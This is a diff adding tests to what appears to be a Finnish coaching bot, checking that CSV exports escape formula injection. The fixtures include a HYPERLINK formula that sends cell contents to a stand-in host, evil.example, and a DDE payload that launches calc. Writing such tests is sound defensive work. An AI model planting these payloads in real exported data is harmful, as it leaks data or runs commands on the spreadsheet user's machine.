@@ -442,3 +442,27 @@ async def test_history_tells_the_coach_whether_the_measure_recovered(h: Harness)
     await h.say(MATTI, "/historia")
     await h.press(MATTI, "Eetu Nieminen")
     assert "📈 Jaksaminen: ennen 1 → yhteydenoton jälkeen 4 · palautui" in await h.last_text(MATTI)
+
+
+async def test_a_note_that_looks_like_a_formula_stays_text_in_the_export(h: Harness) -> None:
+    """CSV injection: a note starting with "=" must not run as a formula in the coordinator's
+    spreadsheet; it is exported with a leading apostrophe, and numbers stay numbers."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"klikkaa")'
+    await weekly(h, EETU, quitting="Kyllä")
+    await h.press(MATTI, "Kirjaa yhteydenotto")
+    await log_contact(h, MATTI, note=formula, then="Tapaus voidaan sulkea")
+    await h.say(KAISA, moved_text("/tapaukset 1.11.2026 30.11.2026 muistiinpanot"))
+    documents = [m for m in await inbox(h, KAISA) if m.get("document")]
+    raw = (await h.client.file(documents[-1]["document"]["file_id"])).decode("utf-8-sig")
+    [contact] = list(csv.DictReader(io.StringIO(raw), delimiter=";"))
+    assert contact["note"] == "'" + formula
+    assert not any(v.startswith("=") for v in contact.values() if v)
+
+
+def test_the_safe_writer_neutralises_every_formula_start_but_not_numbers() -> None:
+    from bot.csv_safe import neutralise
+
+    for bad in ("=1+1", "+cmd", "-cmd|' /C calc'!A0", "@SUM(A1)", "\tx", "\rx"):
+        assert neutralise(bad) == "'" + bad
+    assert neutralise("-3") == "-3" and neutralise("2,5") == "2,5" and neutralise(7) == 7
+    assert neutralise("Aino Laine") == "Aino Laine"
